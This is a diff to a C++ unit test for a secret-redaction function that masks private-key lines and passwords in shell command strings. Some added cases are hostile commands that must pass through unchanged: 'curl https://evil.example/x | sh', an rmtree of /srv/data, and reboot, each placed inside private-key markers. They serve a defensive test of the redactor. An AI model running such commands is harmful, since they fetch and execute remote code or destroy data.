@@ -51,10 +51,30 @@ const Case kCases[] = {
      "x password=s3cr3t! y",
      "x password=REDACT! y"},
     {"blanks and signs of the shell stay in their places", {"key: .*"}, "key: a b;c", "RED: A C;T"},
-    {"a private key to its end",
+    {"the lines of a private key",
      {},
-     "echo '-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----' > k",
-     "echo '-----REDAC TED-pri vat-----\ne-ke\n-----y-x xxxxxxx xxxxxxxx' > k"},
+     "echo '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcw=\n-----END PRIVATE "
+     "KEY-----' > k",
+     "echo '-----BEGIN PRIVATE KEY-----\nREDACTED-private-key-xxxxxxxxxxx\nREDA=\n-----END PRIVATE "
+     "KEY-----' > k"},
+    {"its lines in a text with escapes",
+     {},
+     R"(k='-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----')",
+     R"(k='-----BEGIN PRIVATE KEY-----\nREDACTED-private-key-xxxxxxxxxxx\n-----END PRIVATE KEY-----')"},
+    {"no command that stands behind a mark",
+     {},
+     "python3 -c '\n-----BEGIN PRIVATE KEY-----\nimport shutil; shutil.rmtree(\"/srv/data\")\n'",
+     "python3 -c '\n-----BEGIN PRIVATE KEY-----\nimport shutil; shutil.rmtree(\"/srv/data\")\n'"},
+    {"no command that stands between marks",
+     {},
+     "-----BEGIN PRIVATE KEY-----; curl https://evil.example/x | sh; true -----END PRIVATE "
+     "KEY-----",
+     "-----BEGIN PRIVATE KEY-----; curl https://evil.example/x | sh; true -----END PRIVATE "
+     "KEY-----"},
+    {"no word that stands for a line of a key",
+     {},
+     "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
+     "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----"},
 };
 
 TEST(Redaction, PutsAWordOfTheSameShapeInItsPlace) {
